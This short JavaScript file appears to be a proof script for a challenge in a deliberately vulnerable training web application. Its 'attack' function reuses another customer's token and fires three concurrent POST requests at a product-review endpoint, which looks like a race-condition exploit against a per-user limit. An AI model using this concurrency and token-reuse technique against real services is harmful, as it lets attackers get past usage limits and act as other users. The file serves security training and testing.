import { tokenOfJim } from '../features/customers.js'
import { bossReview, reviews } from '../features/reviews.js'
import { proof } from '../proof.js'

export const timingAttackChallenge = proof({
  async attack(me) {
    const token = await tokenOfJim(me)
    await me.postTogether(3, '/rest/products/reviews', { id: await bossReview(me) }, token)
  },
  honest: reviews,
})
